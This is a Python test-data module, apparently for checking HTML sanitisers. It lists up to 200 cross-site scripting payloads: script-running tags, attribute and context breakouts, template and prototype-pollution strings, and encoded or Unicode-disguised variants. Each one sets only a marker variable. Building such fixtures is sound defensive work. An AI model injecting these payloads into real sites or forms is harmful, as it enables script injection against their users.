"""200 texts that would do something if a page took them for anything but text.

Each fits into every field that people write: one line, at most 200 characters, none of them a
control character (four of them cannot be names of people). ``WITNESS`` is what a script of theirs
would leave behind.
"""

from __future__ import annotations

from typing import Final

WITNESS: Final = "hacked"
"""The name of a global variable; it is undefined as long as none of them ran."""

# Scripts, and elements that run one by themselves.
_ELEMENTS: Final = (
    "<script>window.hacked=1</script>",
    "<ScRiPt >window.hacked=1</sCrIpT >",
    "<script/x>window.hacked=1</script/x>",
    "<<script>window.hacked=1//<</script>",
    '<script src="data:text/javascript,window.hacked=1"></script>',
    "<script src=data:,window.hacked=1></script>",
    '<script type=module>import "data:text/javascript,window.hacked=1"</script>',
    "<script>/*</script><svg/onload='*/window.hacked=1'>",
    "<img src=x onerror=window.hacked=1>",
    '<img src="x" onerror="window.hacked=1">',
    "<img/src=x/onerror=window.hacked=1>",
    "<IMG SRC=x OnErRoR=window.hacked=1>",
    "<img src=x:x onerror&#61;window.hacked=1>",
    "<img src=/favicon.svg onload=window.hacked=1>",
    "<img srcset=x onerror=window.hacked=1>",
    "<image src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1>",
    "<svg/onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<svg><script>&#119;indow.hacked=1</script>",
    "<svg><script href=data:,window.hacked=1 />",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<svg><set onbegin=window.hacked=1 attributeName=x>",
    "<svg><a xlink:href=javascript:window.hacked=1><text x=20 y=20>here</text></a>",
    "<svg><foreignObject><img src=x onerror=window.hacked=1></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=window.hacked=1 />#x">',
    "<math><mi xlink:href=javascript:window.hacked=1>here</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1></style></table>",
    "<iframe srcdoc='<script>top.hacked=1</script>'></iframe>",
    "<iframe src=javascript:window.hacked=1></iframe>",
    "<iframe onload=window.hacked=1></iframe>",
    "<iframe src=data:text/html,<script>parent.hacked=1</script>></iframe>",
    "<object data=javascript:window.hacked=1></object>",
    "<object data=x onerror=window.hacked=1></object>",
    "<embed src=javascript:window.hacked=1>",
    "<video src=x onerror=window.hacked=1></video>",
    "<video><source onerror=window.hacked=1></video>",
    "<audio src=x onerror=window.hacked=1></audio>",
    "<audio controls autoplay src=/favicon.svg onloadstart=window.hacked=1></audio>",
    "<body onload=window.hacked=1>",
    "<body onpageshow=window.hacked=1>",
    "<frameset onload=window.hacked=1>",
    "<link rel=stylesheet href=data:, onload=window.hacked=1>",
    "<link rel=modulepreload href=data:text/javascript,window.hacked=1>",
    "<meta http-equiv=refresh content='0;url=javascript:window.hacked=1'>",
    "<base href=data:,>",
    "<style onload=window.hacked=1></style>",
    "<style>@import 'data:text/css,*{background:url(javascript:window.hacked=1)}';</style>",
    "<style>*{animation:x}@keyframes x{}</style><p onanimationstart=window.hacked=1>",
    "<p style=animation:x onanimationend=window.hacked=1>",
    "<p style='background:url(javascript:window.hacked=1)'>",
    "<input autofocus onfocus=window.hacked=1>",
    "<select autofocus onfocus=window.hacked=1></select>",
    "<textarea autofocus onfocus=window.hacked=1></textarea>",
    "<button popovertarget=x onclick=window.hacked=1>here</button>",
    "<details open ontoggle=window.hacked=1>",
    "<dialog open onclose=window.hacked=1><form method=dialog><button autofocus>",
    "<marquee onstart=window.hacked=1>here</marquee>",
    "<p contenteditable autofocus onfocus=window.hacked=1>",
    "<p tabindex=0 id=x onfocusin=window.hacked=1>here</p>",
    "<form action=javascript:window.hacked=1><button>here</button></form>",
    "<form><button formaction=javascript:window.hacked=1>here</button></form>",
    "<isindex type=image src=x onerror=window.hacked=1>",
    "<a href=javascript:window.hacked=1>here</a>",
    "<a href=' javascript:window.hacked=1'>here</a>",
    "<a href=java&#115;cript:window.hacked=1>here</a>",
    "<a href=&#x6A;avascript&colon;window.hacked=1>here</a>",
    "<a href=data:text/html,<script>window.hacked=1</script>>here</a>",
    "<a href=vbscript:window.hacked=1>here</a>",
    "<custom-element onclick=window.hacked=1 autofocus tabindex=1 onfocus=window.hacked=1>",
    "<template shadowrootmode=open><script>window.hacked=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    "<xmp><p title='</xmp><img src=x onerror=window.hacked=1>'>",
    "<title><a title='</title><img src=x onerror=window.hacked=1>'>",
    "<plaintext><img src=x onerror=window.hacked=1>",
)

# What leaves the place that it was put into.
_ENDINGS: Final = (
    '"><img src=x onerror=window.hacked=1>',
    "'><img src=x onerror=window.hacked=1>",
    '" onmouseover="window.hacked=1" x="',
    "' onmouseover='window.hacked=1' x='",
    '" autofocus onfocus="window.hacked=1',
    "` onerror=window.hacked=1 `",
    "</textarea><script>window.hacked=1</script>",
    "</title><script>window.hacked=1</script>",
    "</style><script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    "--><script>window.hacked=1</script><!--",
    "--!><img src=x onerror=window.hacked=1>",
    "]]><script>window.hacked=1</script>",
    "*/window.hacked=1/*",
    '";window.hacked=1;//',
    "';window.hacked=1;//",
    '\\";window.hacked=1;//',
    "`;window.hacked=1;//",
    "${window.hacked=1}",
    "`${window.hacked=1}`",
    "});window.hacked=1;({",
    "\u2028window.hacked=1//",
    "\u2029window.hacked=1//",
    "javascript:window.hacked=1",
    "JaVaScRiPt:window.hacked=1",
    "javascript://%0awindow.hacked=1",
    "java\u00adscript:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuaGFja2VkPTE8L3NjcmlwdD4=",
    "url(javascript:window.hacked=1)",
    "expression(window.hacked=1)",
)

# What templates, editors and readers of JSON might carry out.
_TEMPLATES: Final = (
    "{{constructor.constructor('window.hacked=1')()}}",
    "{@html '<img src=x onerror=window.hacked=1>'}",
    "{#if window.hacked=1}{/if}",
    "<%= window.hacked=1 %>",
    "{% raw %}<script>window.hacked=1</script>{% endraw %}",
    "[[${window.hacked=1}]]",
    "#{window.hacked=1}",
    "$(eval(window.hacked=1))",
    "[here](javascript:window.hacked=1)",
    '![x](x"onerror="window.hacked=1)',
    "<!--[if gte IE 4]><script>window.hacked=1</script><![endif]-->",
    '{"__proto__":{"onerror":"window.hacked=1"}}',
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
)

# What hides behind how it is written.
_DISGUISES: Final = (
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#60;script&#62;window.hacked=1&#60;/script&#62;",
    "&amp;lt;script&amp;gt;window.hacked=1&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ewindow.hacked=1%3C/script%3E",
    "%253Cscript%253Ewindow.hacked=1%253C/script%253E",
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    "\\x3cscript\\x3ewindow.hacked=1\\x3c/script\\x3e",
    "\uff1cscript\uff1ewindow.hacked=1\uff1c/script\uff1e",
    "\u2039script\u203awindow.hacked=1\u2039/script\u203a",
    "<scr\u200bipt>window.hacked=1</scr\u200bipt>",
    "<s\u0131cript>window.hacked=1</s\u0131cript>",
    "<\u017fcript>window.hacked=1</\u017fcript>",
    "<script\u3000>window.hacked=1</script\u3000>",
    "<img\u00a0src=x\u00a0onerror=window.hacked=1>",
    "\u202e<img src=x onerror=window.hacked=1>",
    "\u2066<script>window.hacked=1</script>\u2069",
    "\ufeff<script>window.hacked=1</script>",
    "+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-",
    "\U0001f469\u200d\U0001f4bb<script>window.hacked=1</script>",
    "\u05e9\u05dc\u05d5\u05dd<svg onload=window.hacked=1>",
)


_TEXTS: Final = _ELEMENTS + _ENDINGS + _TEMPLATES + _DISGUISES
_OUT: Final = tuple(f"x\" y='z'></p></textarea></title>{text}" for text in _ELEMENTS)
"""The same behind whatever ends what people's texts stand in."""

HOSTILE: Final = (*_TEXTS, *_OUT)[:200]
